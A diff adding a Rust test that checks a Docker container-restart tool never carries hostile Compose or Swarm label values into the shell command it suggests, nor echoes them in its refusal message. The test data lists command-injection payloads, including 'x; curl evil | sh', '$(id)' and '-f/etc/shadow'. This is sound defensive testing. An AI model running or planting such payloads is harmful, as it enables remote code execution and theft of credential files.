@@ -139,6 +139,40 @@ fn a_refusal_names_the_owner_and_the_command_that_helps() {
 }
 
 #[test]
+fn no_command_for_people_has_what_a_label_brings_into_a_shell() {
+    for hostile in [
+        "x; curl evil | sh",
+        "$(id)",
+        "`id`",
+        "-f/etc/shadow",
+        "a\nid",
+        "web && id",
+        "",
+    ] {
+        let mut container = web(json!({ "NetworkMode": format!("container:{OWNER}") }));
+        for key in ["compose.project", "compose.service"] {
+            container
+                .labels
+                .insert(format!("com.docker.{key}"), hostile.to_owned());
+        }
+        let refused = verdict(&container, &[], &HostFacts::default()).unwrap();
+        assert_eq!(
+            refused.remedy, "recreate web: docker rm web, then docker run it again",
+            "{hostile}"
+        );
+        for (key, value) in [("task.id", "t"), ("service.name", hostile)] {
+            container
+                .labels
+                .insert(format!("com.docker.swarm.{key}"), value.to_owned());
+        }
+        let refused = verdict(&container, &[], &HostFacts::default()).unwrap();
+        assert_eq!(refused.reason, CannotRestart::SwarmTask, "{hostile}");
+        let said = refused.to_string();
+        assert!(hostile.is_empty() || !said.contains(hostile), "{said}");
+    }
+}
+
+#[test]
 fn a_network_is_found_by_the_id_that_it_had_when_it_was_joined() {
     let mut container = web(json!({"NetworkMode": "front"}));
     container.state = ContainerState::Exited;
